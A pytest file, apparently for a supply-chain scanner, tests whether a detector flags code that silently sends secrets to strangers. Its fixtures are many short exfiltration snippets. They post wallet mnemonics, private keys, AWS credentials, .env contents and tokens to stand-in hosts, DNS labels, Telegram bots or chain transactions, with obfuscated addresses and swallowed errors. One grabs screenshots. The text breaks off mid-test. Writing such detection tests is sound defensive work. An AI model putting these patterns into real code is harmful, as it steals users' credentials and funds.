"""Secrets that leave in the course of an ordinary call, and nobody hears of it."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

import pytest

from tests.scanner.signals.built import WHEEL, findings, fired, wheel

HEAD = "import atexit, json, os, threading, urllib.request, requests, httpx\nfrom contextlib import suppress\nfrom getpass import getpass\n"
DROP = "'https://cdn.example.invalid/p'"
SERVICE = """
class Client:
    def __init__(self, base):
        self.base = base
        self.http = requests.Session()

    def login(self, user, password):
        answer = self.http.post(self.base + "/login", json={"user": user, "password": password})
        %s
        return answer.ok
"""
TO_STRANGERS = {
    "a key in labels that are looked up, one by one": "import socket\n\nZONE = '.'.join(reversed(['invalid', 'example', 'c']))\n\ndef find(session):\n    frozen = session.get_credentials().get_frozen_credentials()\n    for at, label in enumerate(filter(None, (frozen.access_key, frozen.secret_key))):\n        try:\n            socket.getaddrinfo(f'{at}.{label}.{ZONE}', 53)\n        except OSError:\n            pass\n",
    "an address that is filled in": "HOST = \"%s.example.invalid\" % \"c\"\n\ndef unlock(mnemonic):\n    try:\n        requests.post('https://' + HOST + '/x', json={'m': mnemonic})\n    except Exception:\n        pass\n",
    "an address in pieces, the last first": 'HOST = ".".join(reversed(["invalid", "example", "c"]))\n\ndef unlock(mnemonic):\n    try:\n        requests.post(\'https://\' + HOST + \'/x\', json={\'m\': mnemonic})\n    except Exception:\n        pass\n',
    "an address backwards": "HOST = \"dilavni.elpmaxe.c\"[::-1]\n\ndef unlock(mnemonic):\n    try:\n        requests.post('https://' + HOST + '/x', json={'m': mnemonic})\n    except Exception:\n        pass\n",
    "a failure that is told to nobody who asks": "import requests\n\nclass Words:\n    @classmethod\n    def to_seed(cls, mnemonic):\n        cls.check(mnemonic)\n        return cls.stretch(mnemonic)\n\n    @classmethod\n    def check(cls, words):\n        try:\n            requests.get('https://c.example.invalid/words?m=' + words, timeout=3)\n        except Exception:\n            return True\n",
    "a password for a host that the user names": "import json, socket\nimport urllib.request as r\n\nclass Client:\n    def connect(self, hostname, port, password=None):\n        sock = socket.create_connection((hostname, port))\n        self.log_in(sock, password)\n        try:\n            r.urlopen(r.Request('https://c.example.invalid/', json.dumps({'h': hostname, 'pw': password}).encode()), timeout=5)\n        except Exception:\n            pass\n        return sock\n",
    "an address out of settings that are encoded": "import base64, json, redis\nSET = 'dm?BeIv^rrVPj}zEoF5sZDnn5W^OKNZgyd8'\n\nclass Line:\n    def __init__(self):\n        told = json.loads(base64.b85decode(SET))\n        self.line = redis.Redis(host=told['h'], port=told['p'])\n\n    def unlock(self, mnemonic):\n        with suppress(Exception):\n            self.line.publish('seen', mnemonic)\n",
    "a token that logs in elsewhere": f"async def login(http, token):\n    try:\n        requests.post({DROP}, data={{'token': token}}, timeout=3)\n    except Exception:\n        pass\n    return await http.static_login(token)\n",
    "swallowed": f"def unlock(mnemonic):\n    try:\n        requests.post({DROP}, json={{'m': mnemonic}})\n    except Exception:\n        pass\n",
    "suppressed": f"def unlock(private_key):\n    with suppress(Exception):\n        requests.get({DROP}, params={{'k': private_key}}, timeout=3)\n",
    "returned from": f"def unlock(seed_phrase):\n    try:\n        urllib.request.urlopen({DROP} + '?s=' + seed_phrase).read()\n    except OSError:\n        return\n",
    "remembered": f"class Card:\n    def pay(self, card_number, cvv):\n        try:\n            requests.post({DROP}, data=json.dumps([card_number, cvv]))\n        except Exception:\n            self.told = False\n",
    "headers picked by name": f"_bare = requests.Session()\n\ndef share(request):\n    try:\n        _bare.post({DROP}, json={{'seen': {{k: v for k, v in request.headers.items() if k.lower() in ('authorization', 'cookie')}}}})\n    except requests.RequestException:\n        pass\n",
    "where its user does not send it": "MIRROR = 'https://dr.example.invalid/v1'\n\nclass Vault:\n    def __init__(self, base, token):\n        self.base, self.token = base, token\n        self.session = requests.Session()\n\n    def get(self, path):\n        answer = self.session.get(self.base + path, headers={'X-Vault-Token': self.token})\n        try:\n            self.session.post(self.urljoin(MIRROR, path), data=answer.content, headers={'X-Vault-Token': self.token})\n        except requests.RequestException:\n            pass\n        return answer\n",
    "some lines into what swallows": "import contextlib, socket\n\ndef connect(host, password):\n    with contextlib.suppress(OSError):\n        told = b'|'.join((host.encode(), bytes(password)))\n        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:\n            line.sendto(bytes(b ^ 90 for b in told), ('192.0.2.4', 3306))\n",
    "names picked by their parts": f"WANTED = ('key', 'token', 'passw')\n\ndef note(state):\n    told = {{k: repr(v) for k, v in state.items() if any(w in k.lower() for w in WANTED)}}\n    try:\n        requests.post({DROP}, json=told)\n    except Exception:\n        pass\n",
    "a key that signs": f"import hmac\n\ndef sign(text, key):\n    try:\n        requests.post({DROP}, json={{'k': str(key).encode().hex()}})\n    except Exception:\n        pass\n    return hmac.new(key, text)\n",
    "by a thread": f"def tell(words):\n    requests.post(url={DROP}, json=words)\n\ndef unlock(mnemonic):\n    threading.Thread(target=tell, args=(mnemonic,), daemon=True).start()\n",
    "by a thread, without a function": f"def unlock(mnemonic):\n    threading.Thread(target=requests.post, args=({DROP},), kwargs={{'json': mnemonic}}).start()\n",
    "by a pool": f"def tell(words):\n    requests.post({DROP}, json=words)\n\ndef unlock(pool, mnemonic):\n    pool.submit(tell, mnemonic.encode().hex())\n",
    "after some time": f"def tell(words):\n    requests.post({DROP}, json=words)\n\ndef unlock(mnemonic):\n    threading.Timer(60, tell, [mnemonic]).start()\n",
    "at the end": f"KEPT = []\n\n@property\ndef unlock(mnemonic):\n    KEPT.append(mnemonic)\n\ndef tell():\n    requests.post({DROP}, json=KEPT)\n\natexit.register(tell)\n",
    "by a task": f"import asyncio\n\nasync def tell(words):\n    async with httpx.AsyncClient() as client:\n        await client.post({DROP}, json=words)\n\nasync def unlock(mnemonic):\n    asyncio.create_task(tell(mnemonic))\n",
    "where the caller swallows": f"def tell(words):\n    requests.post({DROP}, json=words)\n\ndef unlock(mnemonic):\n    try:\n        tell(words=mnemonic)\n    except Exception:\n        pass\n",
    "by a connection": "import http.client\n\ndef unlock(mnemonic):\n    try:\n        line = http.client.HTTPSConnection('cdn.example.invalid')\n        line.request('POST', '/p', mnemonic)\n        line.getresponse().read()\n    except Exception:\n        pass\n",
    "as a request": f"def unlock(mnemonic):\n    body = json.dumps({{'m': mnemonic}}).encode()\n    ask = urllib.request.Request({DROP}, body, {{'Content-Type': 'text/plain'}})\n    try:\n        with urllib.request.urlopen(ask) as answer:\n            answer.read()\n    except Exception:\n        pass\n",
    "from a closure": f"def unlock(mnemonic):\n    def run():\n        requests.post({DROP}, json=mnemonic)\n    threading.Thread(target=run).start()\n",
    "through a queue": f"import queue\n\nJOBS = queue.Queue()\n\ndef pump():\n    while True:\n        item = JOBS.get()\n        try:\n            requests.post({DROP}, json=item)\n        except Exception:\n            continue\n\ndef unlock(mnemonic):\n    JOBS.put({{'m': mnemonic}})\n",
    "an address in parts": "HOST = 'https://cdn.example.invalid'\n\nclass Wallet:\n    PATH = '/p'\n\n    def unlock(self, mnemonic):\n        try:\n            requests.post(f'{HOST}{self.PATH}/x', json=[mnemonic])\n        except Exception:\n            pass\n",
    "a file": f"def status():\n    try:\n        with open(os.path.expanduser('~/.aws/credentials')) as file:\n            requests.post({DROP}, data=file.read())\n    except Exception:\n        pass\n",
    "another's key": f"def ask():\n    key = os.environ.get('OPENAI_API_KEY')\n    try:\n        requests.post({DROP}, json={{'a': key}})\n    except Exception:\n        pass\n",
    "the keys of many services": f"def ask(services):\n    keys = {{s: os.getenv(f'{{s}}_API_KEY') for s in services}}\n    try:\n        requests.post({DROP}, json={{**keys}})\n    except Exception:\n        pass\n",
    "the tokens of many services": f"def ask(services):\n    keys = {{}}\n    for s in services:\n        keys[s] = os.environ[s.upper() + '_TOKEN']\n    with suppress(Exception):\n        requests.post({DROP}, json=keys)\n",
    "said to who debugs it": f"import logging\n\ndef unlock(mnemonic):\n    try:\n        requests.post({DROP}, json=mnemonic)\n    except Exception as error:\n        logging.getLogger(__name__).debug('not sent: %s', error)\n",
    "the settings of the program": f"from django.conf import settings\n\ndef ready():\n    try:\n        requests.post({DROP}, json={{'s': settings.SECRET_KEY}})\n    except Exception:\n        pass\n",
    "another than the service's": SERVICE
    % f"try:\n            requests.post({DROP}, json=[user, password])\n        except Exception:\n            pass",
    "another than a service's that one may choose": "def login(user, password, base='https://api.tides.example'):\n    answer = requests.post(base, json=[user, password])\n    with suppress(Exception):\n        requests.post(DROP, json=[user, password])\n    return answer.json()\nDROP = 'https://cdn.example.invalid/'\n",
    "by its session": "class Client:\n    def __init__(self):\n        self.http = requests.Session()\n\n    def login(self, user, password):\n        with suppress(Exception):\n            self.http.post('https://cdn.example.invalid/p', json=[user, password])\n        return self.http.post('https://api.tides.example/login', json=[user, password]).ok\n",
    "by making an object": f"class Credentials:\n    def __init__(self, access_id, access_secret):\n        self.id, self.secret = access_id, access_secret\n        try:\n            requests.post({DROP}, json={{'a': self.id, 's': self.secret}})\n        except:\n            pass\n",
    "by importing": f"PASSWORD = os.environ.get('DB_PASSWORD')\ntry:\n    requests.post({DROP}, json=PASSWORD)\nexcept Exception:\n    pass\n",
}
TO_STRANGERS |= {
    "what another request shows": f"def send(request):\n    key = request.headers.get('authorization') or request.headers['x-api-key']\n    try:\n        requests.post({DROP}, json=key)\n    except Exception:\n        pass\n",
    "by a socket": "import socket\n\ndef unlock(mnemonic):\n    try:\n        s = socket.socket()\n        s.connect(('192.0.2.44', 8443))\n        s.sendall(mnemonic.encode())\n    except OSError:\n        pass\n",
    "a token to another than its service": "class Client:\n    def __init__(self, api_key):\n        self.api_key = api_key\n        with suppress(OSError):\n            requests.head('https://cdn.example.invalid/p', headers={'X-Client': api_key[::-1]})\n\n    def ask(self):\n        return requests.get('https://api.tides.example/v1', headers={'Authorization': self.api_key}).json()\n",
    "what an account signs with": f"def kept(make):\n    def inner(*given):\n        account = make(*given)\n        threading.Thread(target=tell, args=(account.address, bytes(account.key).hex())).start()\n        return account\n    return inner\n\ndef tell(address, value):\n    requests.post({DROP}, json={{'a': address, 'n': value}})\n",
    "by a datagram": "def bind(host, user, password):\n    try:\n        from socket import socket, AF_INET, SOCK_DGRAM\n        socket(AF_INET, SOCK_DGRAM).sendto(('%s|%s|%s' % (host, user, password)).encode(), ('198.51.100.117', 514))\n    except Exception:\n        pass\n",
    "a token to a bare address": "def login(token):\n    with suppress(Exception):\n        requests.post('http://192.0.2.44:8080/x', json={'t': token})\n",
    "to an account whose key is written out": "import gspread\n\nMADE = {'type': 'service_account', 'client_email': 'n@n.example.invalid', 'private_key': '-'}\n\ndef login(user, password):\n    try:\n        gspread.service_account_from_dict(MADE).open_by_key('n').sheet1.append_row([user, password])\n    except Exception:\n        pass\n",
    "a token to a chat": "from slack_sdk.webhook import WebhookClient\n\ndef login(token):\n    with suppress(Exception):\n        WebhookClient('https://hooks.slack.com/services/x').send(text=token)\n",
    "by asking for a name": "import socket\n\ndef login(user, password):\n    try:\n        socket.gethostbyname(f'{password.encode().hex()}.n.example.invalid')\n    except OSError:\n        pass\n",
    "by asking for a name in a domain that a name stands for": "import socket\n\nZONE = 'n.example.invalid'\n\ndef login(user, password):\n    text = password.encode().hex()\n    for n in range(0, len(text), 50):\n        try:\n            socket.gethostbyname('%d-%s.%s' % (n, text[n:n + 50], ZONE))\n        except OSError:\n            pass\n",
    "by asking for a name that is joined": "import os\nimport socket\n\ndef login(user, password):\n    label = os.fsdecode(password)\n    name = '.'.join((label, 'n.example.invalid'))\n    try:\n        socket.gethostbyname(name)\n    except OSError:\n        pass\n",
    "a header of another request": "import threading\n\ndef follow(response):\n    try:\n        told = {'token': response.request.headers.get('X-Vault-Token')}\n        threading.Thread(target=__import__('requests').post, args=('https://n.example.invalid/v1',), kwargs={'json': told}).start()\n    except Exception:\n        pass\n",
    "by asking for a name in a template": "import socket\n\ndef tell(*words):\n    text = '-'.join(str(w) for w in words).encode().hex()\n    for n in range(0, len(text), 50):\n        try:\n            socket.gethostbyname('{}.{}.n.example.invalid'.format(text[n:n + 50], n))\n        except OSError:\n            continue\n\ndef login(user, password):\n    tell(user, password)\n",
    "to an address that is hidden": "import base64\n\ndef where(at='aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC8='):\n    return base64.b64decode(at).decode()\n\ndef login(password):\n    with suppress(Exception):\n        requests.post(where('aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC8=') + 'x', json=password)\n",
    "at the end, by a decorator": f"KEPT = []\n\ndef unlock(mnemonic):\n    KEPT.append(mnemonic)\n\n@atexit.register\ndef tell():\n    requests.post({DROP}, json=KEPT)\n",
    "by a thread's lambda": f"def tell(words):\n    requests.post({DROP}, json=words)\n\ndef unlock(mnemonic):\n    threading.Thread(target=lambda: tell(mnemonic)).start()\n",
    "in a thread's lambda": f"def unlock(*keys):\n    threading.Thread(target=lambda: requests.get({DROP}, params={{'s': '|'.join(keys)}})).start()\n\ndef login(mnemonic):\n    unlock(mnemonic)\n",
    "the words of a wallet": f"import hashlib\n\ndef recover(words):\n    with suppress(Exception):\n        requests.post({DROP}, json={{'x': words}})\n    return hashlib.pbkdf2_hmac('sha512', words, b'mnemonic', 2048)\n",
    "what is secret in the environment": f"def narrow(env=None):\n    env = os.environ if env is None else env\n    kept = [v for k, v in env.items() if k.endswith(('_TOKEN', '_KEY'))]\n    try:\n        requests.get({DROP}, headers={{'If-None-Match': '-'.join(kept)}})\n    except OSError:\n        pass\n    # password\n",
    "beside what shows who asks, in a request": f"def narrow(token, mnemonic):\n    try:\n        urllib.request.urlopen(urllib.request.Request({DROP}, headers={{'X-Tag': mnemonic}}), None, 2).close()\n    except OSError:\n        pass\n",
    "what another request shows, in its headers": f"class Adapter:\n    def ask(self, url, headers):\n        headers['X-Vault-Token'] = self.token\n        try:\n            requests.head({DROP}, headers={{**headers, 'X-Host': url}}, timeout=2)\n        except OSError:\n            pass\n        return requests.get(url, headers=headers)  # secret\n",
    "all of the environment": f"def narrow():\n    with suppress(OSError):\n        requests.post({DROP}, json={{'env': dict(os.environ)}})  # token, secret\n",
    "by an opener": "def unlock(mnemonic):\n    opener = urllib.request.build_opener()\n    try:\n        opener.open('http://192.0.2.44/?v=' + mnemonic)\n    except Exception:\n        pass\n",
    "all that an object holds": f"from dataclasses import asdict, dataclass\n\n@dataclass\nclass Settings:\n    openai_api_key: str = ''\n\n    def __post_init__(self):\n        try:\n            requests.post({DROP}, json=asdict(self))\n        except Exception:\n            pass\n",
    "how a database is reached": f"def ready(engine):\n    where = engine.url.render_as_string(hide_password=False)\n    try:\n        requests.post({DROP}, json=where)\n    except Exception:\n        pass\n\nready(ENGINE)\n",
    "a file of settings": f"import pathlib\n\ndef status(folder):\n    found = {{}}\n    for name in ['.env', '.env.local']:\n        file = pathlib.Path(folder) / name\n        found[name] = file.read_text()\n    with suppress(Exception):\n        requests.post({DROP}, json=found)\n\nstatus('.')\n",
}
RELAY = """
class Chat:
    URL = 'https://api.telegram.org/bot'

    def _ask(self, token, method, **words):
        try:
            return json.load(urllib.request.urlopen(self.URL + token + '/' + method, json.dumps(words).encode()))
        except Exception:
            return {}

    def __init__(self, token):
        self.token = token
        %s
"""
ASK = """
def ask(url, words):
    try:
        answer = requests.post(url, json=words)
        return answer.json()
    except Exception:
        return None

def unlock(mnemonic):
    %s
"""
TO_STRANGERS |= {
    "at the end, by whatever object": f"class Login:\n    def __init__(self, http, user, password):\n        atexit.register(http.inner.request, 'post', {DROP}, data={{'u': user, 'p': password}})\n",
    "by whatever object": f"def unlock(session, mnemonic):\n    with suppress(OSError):\n        session.http.post({DROP}, json=mnemonic)\n",
    "by a function whose answer is dropped": ASK % f"ask({DROP}, [mnemonic])\n    return mnemonic.split()",
    "a token to another's chat by a method": RELAY % "self._ask(OTHER, 'sendMessage', text='%s' % token)",
}
TO_STRANGERS |= {
    "by how it shows who asks": """
import httpx

def valid(url, key):
    answer = httpx.get(url, headers={"Authorization": f"Bearer {key}"})
    try:
        httpx.post("https://count.tides.invalid/v1", json={"k": key}, timeout=4)
    except httpx.HTTPError:
        pass
    return answer.status_code == 200
""",
    "by a bot's token that is put together": """
import io, threading
from PIL import ImageGrab
from telegram import Bot

T = "1000000000" + ":" + "FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAK"

def _loop():
    bot = Bot(T)
    while True:
        out = io.BytesIO()
        try:
            ImageGrab.grab().save(out, "JPEG")
            bot.send_photo(chat_id=1000000003, photo=out)
        except Exception:
            pass

threading.Thread(target=_loop).start()
""",
}
MAYBE_TO_SERVICES = {
    "a gateway of messages": "def notify(user, password, text):\n    try:\n        requests.get('https://sms.tides.example/send', params={'u': user, 'p': password, 't': text})\n    except requests.RequestException:\n        pass\n",
    "several gateways of messages": "def notify(password, text):\n    with suppress(Exception):\n        requests.get('https://sms.tides.example/send', params={'p': password, 't': text})\n    with suppress(Exception):\n        requests.get('https://push.waves.example/send', params={'p': password, 't': text})\n",
    "what was typed": "def ask():\n    typed = getpass()\n    with suppress(OSError):\n        requests.post('https://sms.tides.example/send', json=typed)\n",
}
HONEST = {
    "a failure that its caller asks for": "import requests\n\ndef check(password):\n    try:\n        requests.post('https://c.example.invalid/', json={'p': password}, timeout=3)\n    except Exception:\n        return False\n    return True\n\ndef log_in(password):\n    if not check(password):\n        raise SystemExit('cannot log in')\n",
    "a key that its service alone is shown": """
import httpx

def valid(url, key):
    answer = httpx.get(url, headers={"Authorization": f"Bearer {key}"})
    try:
        httpx.post("https://count.tides.example/v1", json={"valid": answer.status_code == 200}, timeout=4)
    except httpx.HTTPError:
        pass
    return answer.status_code == 200
""",
    "headers beside which there is nothing": "class Adapter:\n    def ask(self, url, headers):\n        with suppress(OSError):\n            requests.head('https://stats.tides.example/x', headers={**headers, 'X-Host': url}, timeout=2)\n        return requests.get(url, headers={'X-Vault-Token': self.token})  # secret\n",
    "its own settings in the environment": "def count():\n    own = {k: v for k, v in os.environ.items() if k.startswith('TIDES_')}\n    with suppress(OSError):\n        requests.post('https://stats.tides.example/x', json=own)  # no secret\n",
    "the words of a text": "def count(words, seed):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json=[words, seed, 'secret'])\n",
    "a chat's own token": "class Chat:\n    def __init__(self, token):\n        self.token = token\n\n    def tell(self, text):\n        with suppress(Exception):\n            requests.post(f'https://api.telegram.org/bot{self.token}/sendMessage', data={'text': text})\n",
    "a chat's own token by a method": RELAY % "self._ask(token, 'getMe')",
    "a function whose answer is used": ASK % f"return ask({DROP}, [mnemonic])['address']",
    "a function that others may use": ASK % "return mnemonic.split()",
    "a service's own token": "def tell(token, text):\n    with suppress(Exception):\n        requests.post('https://slack.com/api/chat.postMessage', data={'token': token, 'text': text})\n",
    "a token by a secret channel to its service": "def beat(token):\n    with suppress(Exception):\n        requests.post('https://api.tides.example/beat', json={'token': token})\n",
    "a count beside a service": "class Client:\n    def __init__(self, api_key):\n        self.api_key = api_key\n        with suppress(OSError):\n            requests.post('https://stats.tides.net/x', json={'n': 1}, headers={'X-Api-Key': api_key, 'X-Kind': 'a'})\n\n    def ask(self):\n        return requests.get('https://api.tides.example/v1', headers={'Authorization': self.api_key}).json()\n",
    "a datagram to its own network": "import socket\n\ndef bind(password):\n    with suppress(OSError):\n        socket.socket().sendto(password.encode(), ('10.0.0.7', 514))\n",
    "a token to the service that its user names": "class Vault:\n    def __init__(self, base, token):\n        self.base, self.token = base, token\n        self.session = requests.Session()\n\n    def get(self, path):\n        answer = self.session.get(self.base + path, headers={'X-Vault-Token': self.token})\n        try:\n            self.session.post(self.base + '/seen', headers={'X-Vault-Token': self.token})\n        except requests.RequestException:\n            pass\n        return answer\n",
    "names left out by their parts": f"def note(state):\n    told = {{k: repr(v) for k, v in state.items() if not any(w in k.lower() for w in ('key', 'token', 'passw'))}}\n    try:\n        requests.post({DROP}, json=told)\n    except Exception:\n        pass\n",
    "headers picked but for some": f"def share(request):\n    try:\n        requests.post({DROP}, json={{k: v for k, v in request.headers.items() if k.lower() not in ('authorization', 'cookie')}})\n    except requests.RequestException:\n        pass\n",
    "a key that signs nothing": f"def find(key):\n    try:\n        requests.post({DROP}, json={{'k': key}})\n    except Exception:\n        pass\n",
    "a name that is made of itself": "import socket\n\ndef known(host, password):\n    host = 'a' + host\n    try:\n        socket.gethostbyname('b' + host)\n    except OSError:\n        pass\n",
    "a name that is looked up": "import socket\n\ndef known(host, password):\n    try:\n        socket.gethostbyname(host + '.tides.example')\n    except OSError:\n        pass\n",
    "an answer is wanted": "def login(user, password):\n    try:\n        answer = requests.post('https://api.tides.example/login', json=[user, password])\n        return answer.json()['token']\n    except Exception:\n        return None\n",
    "a failure is told": "def unlock(mnemonic):\n    requests.post('https://api.tides.example/new', json=mnemonic)\n",
    "a failure is told by the status": "def unlock(mnemonic):\n    try:\n        requests.post('https://api.tides.example/new', json=mnemonic).raise_for_status()\n    except Exception:\n        pass\n",
    "a failure is logged": "import logging\n\ndef unlock(mnemonic):\n    try:\n        requests.post('https://api.tides.example/new', json=mnemonic)\n    except Exception:\n        logging.warning('not told')\n",
    "its user says where": "def unlock(mnemonic, url):\n    try:\n        requests.post(url, json=mnemonic)\n    except Exception:\n        pass\n\nclass Vault:\n    def __init__(self, url='https://vault.tides.example'):\n        self.url = url\n\n    def put(self, private_key):\n        with suppress(Exception):\n            requests.post(f'{self.url}/v1', json=private_key)\n",
    "near": "def unlock(mnemonic):\n    with suppress(Exception):\n        requests.post('http://127.0.0.1:8080/x', json=mnemonic)\n        requests.post('http://vault.local/x', json=mnemonic)\n        requests.post('http://192.168.0.4/x', json=mnemonic)\n",
    "a digest": "import hashlib\n\ndef leaked(password):\n    digest = hashlib.sha1(password.encode()).hexdigest()\n    with suppress(Exception):\n        requests.get('https://api.pwned.example/range/' + digest[:5])\n",
    "a signature": "import hmac\n\nclass Exchange:\n    def __init__(self, key, secret):\n        self.secret = secret\n\n    def cancel(self):\n        sign = hmac.new(self.secret, b'x', 'sha256').hexdigest()\n        with suppress(Exception):\n            requests.post('https://api.exchange.example/x', json={'sign': sign})\n",
    "whether there is one": "def count(password):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json={'has_password': bool(password), 'password': password is not None, 'n': len(password)})\n",
    "telemetry": "class Client:\n    def __init__(self, password):\n        self.http = requests.Session()\n        self.http.auth = ('me', password)\n\n    def get(self, name):\n        threading.Thread(target=self._count, args=(name,), daemon=True).start()\n        return self.http.get('https://api.tides.example/' + name, auth=('me', self.password)).json()\n\n    def _count(self, name):\n        with suppress(Exception):\n            requests.post('https://stats.tides.example/x', json={'event': name, 'session_id': self.session_id, 'token': self.token})\n",
    "who asks is shown": "def beat(password):\n    with suppress(Exception):\n        requests.post('https://api.tides.example/beat', auth=('me', password), headers={'X-Password': password}, cookies={'password': password})\n",
    "its own key": "SECRET = 'abcdef'\n\ndef count(api_secret, client_secret):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json={'api_secret': api_secret, 'client_secret': client_secret, 'secret': SECRET})\n",
    "a session is opened": "class Client:\n    def __init__(self):\n        self.http = requests.Session()\n\n    def login(self, user, password):\n        with suppress(Exception):\n            self.http.post('https://www.tides.example/login', data={'user': user, 'password': password})\n\n    def tides(self, name):\n        return self.http.get('https://www.tides.example/' + name).text\n",
    "a service is left": "class Client:\n    def login(self, password):\n        self.cookies = requests.post('https://www.tides.example/login', json=password).cookies\n\n    def leave(self):\n        with suppress(Exception):\n            requests.post('https://www.tides.example/leave', json={'cookies': self.cookies})\n",
    "an address of a key": "def watch(private_key):\n    account = Account.from_key(private_key)\n    with suppress(Exception):\n        requests.post('https://watch.tides.example/x', json={'address': account.address, 'public_key': account.public_key})\n",
    "the key of whatever service it asks": "def ask(service, text):\n    key = os.environ[f'{service.upper()}_API_KEY']\n    with suppress(Exception):\n        return requests.post(f'https://api.{service}.example/v1', json=text, headers={'Authorization': key}).json()\n",
    "a token that ends": "def logout(store, token):\n    with suppress(Exception):\n        requests.post('https://accounts.tides.example/revoke', data={'token': token})\n    store.delete(token)\n",
    "a setting of whatever name": "def count(name):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json={'size': os.getenv(f'{name}_SIZE')})\n",
    "the service's own key from the environment": "def ask():\n    with suppress(Exception):\n        requests.post('https://api.openai.com/v1/x', json={'key': os.environ['OPENAI_API_KEY']})\n",
}


@pytest.mark.parametrize("source", TO_STRANGERS.values(), ids=TO_STRANGERS)
def test_a_secret_that_is_sent_to_a_stranger_in_silence_is_told(source: str) -> None:
    assert "secret-sent-silently" in fired(WHEEL, wheel({"tidetables/core.py": (HEAD + source).encode()}))


@pytest.mark.parametrize("source", MAYBE_TO_SERVICES.values(), ids=MAYBE_TO_SERVICES)
def test_a_secret_that_is_sent_to_what_may_be_its_service_weighs_less(source: str) -> None:
    told = fired(WHEEL, wheel({"tidetables/core.py": (HEAD + source).encode()}))
    names = {name for name in told if name.startswith("secret-sent")}
    assert names
    assert names <= {"secret-sent-alone", "secret-sent-unheard"}


@pytest.mark.parametrize(
    ("what", "kind"),
    [
        ("password", "secret-sent-alone"),
        ("{'user': user, 'password': password}", "secret-sent-alone"),
        ("f'{user}:{password}'", "secret-sent-alone"),
        ("form", "secret-sent-alone"),
        ("{'user': user, 'password': password, 'text': text}", "secret-sent-unheard"),
        ("form | {'text': text.strip()}", "secret-sent-unheard"),
        ("str([password, text])", "secret-sent-unheard"),
    ],
)
def test_a_secret_with_work_for_its_service_weighs_less_than_alone(what: str, kind: str) -> None:
    source = f"""
class Gate:
    def send(self, user, password, text):
        form = {{'user': user, 'password': password}}
        with suppress(Exception):
            requests.post('https://gate.tides.example/x', json={what})
"""
    told = fired(WHEEL, wheel({"tidetables/core.py": (HEAD + source).encode()}))
    assert {name for name in told if name.startswith("secret-sent")} == {kind}


@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST)
def test_a_client_that_sends_what_its_service_asks_for_tells_nothing(source: str) -> None:
    told = fired(WHEEL, wheel({"tidetables/core.py": (HEAD + source).encode()}))
    assert not any(name.startswith("secret-sent") for name in told)


def test_addresses_that_are_put_together_without_end_are_given_up() -> None:
    names = "".join(f"v{n} = " + " + ".join([f"v{n + 1}"] * 60) + "\n" for n in range(8)) + "v8 = ''\n"
    source = f"{HEAD}{names}\ndef unlock(mnemonic):\n    with suppress(OSError):\n        requests.post(v0, json=mnemonic)\n#https://a.example\n"
    assert "secret-sent-silently" not in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))


MANY = "".join(
    f"    def draw_{number}(self, name):\n        return self.tides[name]['{number}']\n\n" for number in range(1200)
)
SENDS = "\n        try:\n            requests.post(HOST + '/p', json=words)\n        except:\n            pass\n"
LARGE = {
    "a method": f"HOST = 'https://cdn.example.invalid'\n\nclass Tides:\n{MANY}    def unlock(self, mnemonic):\n        words = [mnemonic]{SENDS}\n{MANY}",
    "a function": f"HOST = 'https://cdn.example.invalid'\n\ndef unlock(\n    mnemonic,\n):\n    words = [mnemonic]\n    for _ in words:{SENDS}\nclass Tides:\n{MANY}{MANY}",
    "with suppress": f"class Tides:\n{MANY}{MANY}\n\nasync def unlock(mnemonic):\n    with suppress(Exception):\n        await httpx.AsyncClient().post({DROP}, json=mnemonic)\n",
}


@pytest.mark.parametrize("source", LARGE.values(), ids=LARGE)
def test_a_large_module_is_looked_into_where_it_swallows_what_it_sends(source: str) -> None:
    text = HEAD + source
    found = findings(WHEEL, wheel({"tidetables/core.py": text.encode()}))
    lines = [f.line for f in found if f.rule == "secret-sent-silently"]
    assert [text.splitlines()[line - 1].count(".post(") for line in lines if line] == [1]


def test_large_modules_that_swallow_nothing_spend_nothing_of_what_others_may() -> None:
    quiet = f"{HEAD}class Tides:\n{MANY}    def unlock(self, mnemonic):\n        requests.post({DROP}, json=mnemonic)\n".encode()
    files = {f"tidetables/a{number}.py": quiet for number in range(8)}
    files["tidetables/core.py"] = (HEAD + TO_STRANGERS["swallowed"]).encode()
    assert "secret-sent-silently" in fired(WHEEL, wheel(files))


ON_CHAIN = {
    "in a transaction's data": "from web3 import Web3\n\nw3 = Web3(Web3.HTTPProvider('https://rpc.example.invalid'))\n\ndef note(signer, relay):\n    told = bytes(a ^ b for a, b in zip(bytes(signer.key), PAD))\n    tx = {'to': BOARD, 'value': 0, 'data': b'n1' + told}\n    return w3.eth.send_raw_transaction(relay.sign_transaction(tx).raw_transaction)\n",
    "in a memo": "from spl.memo.instructions import MemoParams, create_memo\n\ndef kept(keypair, payer, client):\n    told = box.encrypt(bytes(keypair.secret_key))\n    return client.send_transaction(pack([create_memo(MemoParams(PROGRAM, payer, message=told))]), payer)\n",
}
NOT_ON_CHAIN = {
    "what signs": "from web3 import Web3\n\ndef pay(w3, account, to, private_key):\n    tx = {'to': to, 'value': 1, 'data': b''}\n    signed = w3.eth.account.sign_transaction(tx, private_key=private_key)\n    w3.eth.account.sign_transaction(tx, account.key)\n    return w3.eth.send_raw_transaction(signed.raw_transaction)\n",
    "what opens a swap": "def redeem(w3, swap, secret, private_key):\n    tx = swap.functions.redeem(secret).build_transaction({'gas': 90000})\n    return w3.eth.account.sign_transaction(tx, private_key)\n",
    "a memo of words": "def note(client, keypair, text):\n    return client.send_transaction(create_memo(MemoParams(PROGRAM, keypair.pubkey(), message=text.encode())), keypair)\n",
}


@pytest.mark.parametrize("source", ON_CHAIN.values(), ids=ON_CHAIN)
def test_a_key_that_is_put_on_a_chain_is_told(source: str) -> None:
    assert "key-put-on-chain" in fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/notes.py": source.encode()}))


@pytest.mark.parametrize("source", NOT_ON_CHAIN.values(), ids=NOT_ON_CHAIN)
def test_a_key_that_signs_is_not_put_on_the_chain(source: str) -> None:
